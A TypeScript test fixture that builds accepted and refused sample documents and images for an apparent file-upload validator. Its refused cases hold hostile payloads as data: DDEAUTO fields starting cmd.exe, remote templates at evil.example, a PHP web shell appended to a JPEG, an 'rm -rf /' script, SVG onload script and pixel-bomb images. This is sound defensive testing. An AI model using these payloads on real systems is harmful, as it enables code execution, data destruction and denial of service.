import CFB from 'cfb';
import { jpeg, png, pngOf, text } from '../sample-files.ts';
import { corpusFile } from './corpus-file.ts';
import { makeZip } from './make-zip.ts';

function rtf(content: string): Buffer {
  return text(`{\\rtf1\\ansi\\ansicpg1250{\\fonttbl{\\f0\\froman Arial;}}${content}\\par}`);
}

/** A compound file of these streams. */
function compound(streams: Readonly<Record<string, string>>): Buffer {
  const file = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) {
    CFB.utils.cfb_add(file, name, text(content));
  }
  const bytes = Buffer.from(CFB.write(file, { type: 'buffer' }));
  // The package signs what it writes; Word has a stream with a name as long.
  const signature = bytes.indexOf('\u0001Sh33tJ5', 0, 'utf16le');
  bytes.write('\u0001CompObj', signature, 'utf16le');
  return bytes;
}

const word97 = {
  WordDocument: 'Jana \x13 PAGE \x14 1 \x15'.padEnd(5000, ' '),
  '1Table': 'Normal.dot',
};

/** A JPEG with an Exif head, in which a small picture lies. */
const exif = Buffer.concat([
  text('\xff\xd8\xff\xe1\x00\x40Exif\0\0'.padEnd(68, '\0')),
  jpeg.subarray(2),
]);

/** A JPEG that claims these sides. */
function jpegOf(width: number, height: number): Buffer {
  const picture = Buffer.from(jpeg);
  const frame = picture.indexOf(Buffer.from('ffc0', 'hex'));
  picture.writeUInt16BE(height, frame + 5);
  picture.writeUInt16BE(width, frame + 7);
  return picture;
}

function refused(name: string, holds: string, why: string, make: () => Buffer) {
  return corpusFile(name, 'fileNotPlain', holds, why, make);
}

function foreign(name: string, holds: string, make: () => Buffer) {
  return corpusFile(name, 'fileTypeRefused', holds, 'Not a kind that is taken', make);
}

/** Rich texts, documents of before 2007, plain texts and pictures. */
export const otherFiles = [
  corpusFile(
    'word.rtf',
    'rtf',
    'With the XML that Word keeps beside the text, page numbers, a link',
    'Known groups and fields',
    () =>
      rtf(
        '{\\*\\generator Microsoft Word;}{\\*\\datastore 0105000002000000180000004d73786d6c322e534158584d4c5265616465722e362e3000}{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}{\\field{\\*\\fldinst { HYPERLINK "https://jana.example"}}{\\fldrslt web}}\\u382?lu\\\'9d',
      ),
  ),
  corpusFile('wordpad.rtf', 'rtf', 'As WordPad and TextEdit save it', 'Known groups', () =>
    rtf('{\\*\\generator Riched20 10.0}{\\*\\expandedcolortbl;;}{\\pict\\pngblip\\bin4 {{{{}Jana'),
  ),
  corpusFile('word-97.doc', 'doc', 'As Word 97 saved it, with page numbers', 'Known streams', () =>
    compound(word97),
  ),
  corpusFile('utf-8.txt', 'txt', 'Text in UTF-8', 'Text is text', () =>
    Buffer.from('Žluťoučký kůň\r\n'),
  ),
  corpusFile('windows-1250.txt', 'txt', 'Text as old Czech editors write it', 'Text is text', () =>
    Buffer.from([0x8e, 0x6c, 0x75, 0x9d, 0x0a]),
  ),
  corpusFile('screenshot.png', 'png', 'A picture of a screen', 'A picture is a picture', () => png),
  corpusFile(
    'phone.jpg',
    'jpg',
    'A photo of a telephone, with its preview in the head and a second picture after it',
    'Eight pictures at most',
    () => Buffer.concat([exif, jpeg, Buffer.alloc(9)]),
  ),
  corpusFile(
    'photo',
    'jpg',
    'A photo under a name without an ending',
    'What it holds counts',
    () => jpeg,
  ),
  corpusFile(
    'really-rich.doc',
    'rtf',
    'A rich text under the name of a Word document',
    'It gets the name of what it is',
    () => rtf('Jana'),
  ),
  refused('dde.rtf', 'A field that starts a program (DDEAUTO)', 'Not on the list of fields', () =>
    rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}{\\fldrslt x}}'),
  ),
  refused(
    'dde-split.rtf',
    'The same, in groups and as numbers of letters',
    'Codes are put together first',
    () => rtf("{\\field{\\*\\fldinst {D}{\\'44}{\\b E}AUTO cmd}{\\fldrslt x}}"),
  ),
  refused(
    'dde-behind-group.rtf',
    'The same behind a harmless code in a group that readers pass over',
    'A code has nothing in it but its letters',
    () => rtf('{\\field{\\*\\fldinst {\\*\\generator PAGE }DDEAUTO cmd}{\\fldrslt x}}'),
  ),
  refused(
    'dde-behind-number.rtf',
    'The same behind the number of a letter, for which readers pass over the harmless code',
    'A code has no numbers of letters',
    () => rtf('{\\field{\\*\\fldinst\\uc5\\u32 PAGE DDEAUTO cmd}{\\fldrslt x}}'),
  ),
  refused(
    'dde-told-twice.rtf',
    'The same before a second, harmless code',
    'A code is told once',
    () => rtf('{\\field{\\*\\fldinst DDEAUTO cmd \\fldinst PAGE}{\\fldrslt x}}'),
  ),
  refused('next-file.rtf', 'A further text on a server', 'All content has to be inside', () =>
    rtf('{\\nextfile \\\\\\\\evil.example\\\\a.rtf}'),
  ),
  refused('remote-template.rtf', 'A template on a server', 'Templates are refused', () =>
    rtf('{\\*\\template https://evil.example/a.dotm}'),
  ),
  refused('object.rtf', 'An object of another program', 'Objects are refused', () =>
    rtf('{\\object\\objemb{\\*\\objdata 0105000002000000}}'),
  ),
  refused('unknown-group.rtf', 'A group that no usual program writes', 'Only known groups', () =>
    rtf('{\\*\\unheardof x}'),
  ),
  refused(
    'started-class.rtf',
    'Data of a class other than Word’s own, which is started to read them',
    'Only Word’s own',
    () => rtf('{\\*\\datastore 0105000002000000080000004f7574707574}'),
  ),
  refused(
    'page-after.rtf',
    'A page of the web after the last brace',
    'Nothing may follow the end',
    () => Buffer.concat([rtf('Jana'), text('<script>x()</script>}')]),
  ),
  refused('macros.doc', 'A document of before 2007 with macros', 'Not a known stream', () =>
    compound({ ...word97, 'Macros/VBA/dir': 'x' }),
  ),
  refused(
    'dde.doc',
    'A document of before 2007 with a field that starts a program',
    'Such fields are refused',
    () =>
      compound({
        ...word97,
        WordDocument: '\x13 \0D\0D\0E\0A\0U\0T\0O\0 \0c\0m\0d\0'.padEnd(5000, ' '),
      }),
  ),
  refused(
    'dde-in-pieces.doc',
    'The same, its code before the mark of the field',
    'The word is looked for everywhere',
    () => compound({ ...word97, WordDocument: 'DDEAUTO cmd \x15 \x13'.padEnd(5000, ' ') }),
  ),
  refused(
    'print.doc',
    'A document of before 2007 with a field that sends commands to the printer (PRINT)',
    'Such fields are refused',
    () => compound({ ...word97, WordDocument: '\x13PRINT"\x1bE"\x14\x15'.padEnd(5000, ' ') }),
  ),
  refused(
    'remote-template.doc',
    'A document of before 2007 with a template on a server',
    'Such templates are refused',
    () =>
      compound({
        ...word97,
        '1Table': Buffer.from('https://evil.example/a.dotm\n', 'utf16le').toString('latin1'),
      }),
  ),
  refused(
    'huge.png',
    'A picture that claims 65,535 × 65,535 pixels',
    'More than 100 million pixels',
    () => pngOf(65_535, 65_535),
  ),
  refused(
    'huge.jpg',
    'A photo that claims 65,500 × 65,500 pixels',
    'More than 100 million pixels',
    () => jpegOf(65_500, 65_500),
  ),
  refused(
    'huge-behind-fill.jpg',
    'The same behind a byte that fills up',
    'More than 100 million pixels',
    () =>
      Buffer.concat([
        Buffer.from('ffd8ffffc0001108ffffffff03012200021101031101', 'hex'),
        Buffer.alloc(0xc000 - 18),
        Buffer.from('ffd9', 'hex'),
      ]),
  ),
  refused('chain.jpg', 'A chain of 100,000 tiny photos', 'Eight pictures at most', () =>
    Buffer.concat(Array<Buffer>(100_000).fill(jpeg)),
  ),
  refused(
    'archive-too.png',
    'A picture that is an archive too',
    'A file of two kinds is refused',
    () => Buffer.concat([png, makeZip({ 'a.jar': 'x' })]),
  ),
  refused('script-after.jpg', 'A photo with a program after it', 'Nothing may follow the end', () =>
    Buffer.concat([jpeg, text('<?php system($_GET[0]);')]),
  ),
  refused('cut-off.png', 'A picture that was cut off', 'The end is missing', () =>
    png.subarray(0, -4),
  ),
  foreign('program.pdf', 'A Windows program under the name of a PDF', () =>
    text('MZ\x90\x00'.padEnd(512, '\0')),
  ),
  foreign('cv.pdf.exe', 'A text under the name of a program', () => text('hello')),
  foreign('page.txt', 'A page of the web under the name of a text', () =>
    text('\n \t<html><body>'),
  ),
  foreign('drawing.txt', 'A drawing that runs a script', () =>
    text('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
  ),
  foreign('shell.txt', 'A shell script', () => text('#!/bin/sh\nrm -rf /\n')),
  foreign('escape.txt', 'A text that takes over a terminal', () => text('hello \x1b[2J')),
  foreign('picture.doc', 'A GIF under the name of a Word document', () =>
    text('GIF89a\x01\x00\x01\x00\x00\x00\x00;'),
  ),
];
